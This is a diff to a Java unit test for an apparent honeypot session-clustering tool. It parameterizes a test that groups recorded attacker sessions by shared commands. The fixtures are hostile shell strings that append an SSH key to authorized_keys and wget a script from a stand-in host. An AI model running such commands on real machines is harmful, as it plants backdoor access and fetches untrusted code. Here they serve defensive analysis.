@@ -20,10 +20,13 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.Arrays;
+import java.util.Collections;
 import java.util.List;
 import java.util.Objects;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 
 class SessionHistoryTest {
     private static final Path RECORDED = Path.of("..", "..", "shared", "cowrie3", "plain");
@@ -94,20 +97,29 @@ class SessionHistoryTest {
         assertThat(link.observed()).isEqualTo("0.76");
     }
 
-    @Test
-    void makesTwoClustersOneWhenASessionSharesWithBoth() {
-        ClusterLink key = link(from("203.0.113.1", "echo ssh-rsa " + "C".repeat(44) + " >> .ssh/authorized_keys"));
-        ClusterLink url = link(from("203.0.113.2", "wget http://192.0.2.7/a/y.sh"));
-        link(from(
-                "203.0.113.3",
-                "wget http://192.0.2.7/a/y.sh; echo ssh-rsa " + "C".repeat(44) + " >> .ssh/authorized_keys"));
+    /** The commands are chosen so that now the cluster of the key has the smallest name, now that of the URL. */
+    @ParameterizedTest
+    @CsvSource({"ls, df, true", "df, uname, false"})
+    void makesTwoClustersOneWhenASessionSharesWithBoth(String planting, String loading, boolean namedByKey) {
+        String plants = "echo ssh-rsa " + "C".repeat(44) + " >> .ssh/authorized_keys; " + planting;
+        String loads = loading + "; wget http://192.0.2.7/a/y.sh";
+        ClusterLink key = link(from("203.0.113.1", plants));
+        ClusterLink url = link(from("203.0.113.2", loads));
+        Session both = from("203.0.113.3", loads + "; " + plants);
+        String smallest =
+                Collections.min(List.of(key.name(), url.name(), alone(both).name()));
+        assertThat(smallest).isEqualTo(namedByKey ? key.name() : url.name());
+        link(both);
 
-        ClusterLink later = link(from("203.0.113.4", "wget http://192.0.2.7/a/y.sh"));
+        ClusterLink likeKey = link(from("203.0.113.4", plants));
+        ClusterLink likeUrl = link(from("203.0.113.5", loads));
 
-        assertThat(later.sessions()).isEqualTo(3);
-        assertThat(later.sources()).isEqualTo(3);
-        assertThat(later.name().compareTo(key.name())).isLessThanOrEqualTo(0);
-        assertThat(later.name().compareTo(url.name())).isLessThanOrEqualTo(0);
+        assertThat(List.of(likeKey.reason(), likeUrl.reason())).containsOnly(Reason.SAME_SEQUENCE);
+        assertThat(likeKey.sessions()).isEqualTo(3);
+        assertThat(likeKey.sources()).isEqualTo(3);
+        assertThat(likeUrl.sessions()).isEqualTo(4);
+        assertThat(likeUrl.sources()).isEqualTo(4);
+        assertThat(List.of(likeKey.name(), likeUrl.name())).containsOnly(smallest);
     }
 
     @Test
@@ -238,6 +250,12 @@ class SessionHistoryTest {
 
     private ClusterLink link(Session session) {
         return Objects.requireNonNull(analysis.assess(session).cluster());
+    }
+
+    /** Returns the link of a session that nothing came before. */
+    private static ClusterLink alone(Session session) {
+        Analysis first = Analysis.builder().history(SessionHistory.create()).build();
+        return Objects.requireNonNull(first.assess(session).cluster());
     }
 
     private static CredentialView only(Assessment assessment) {
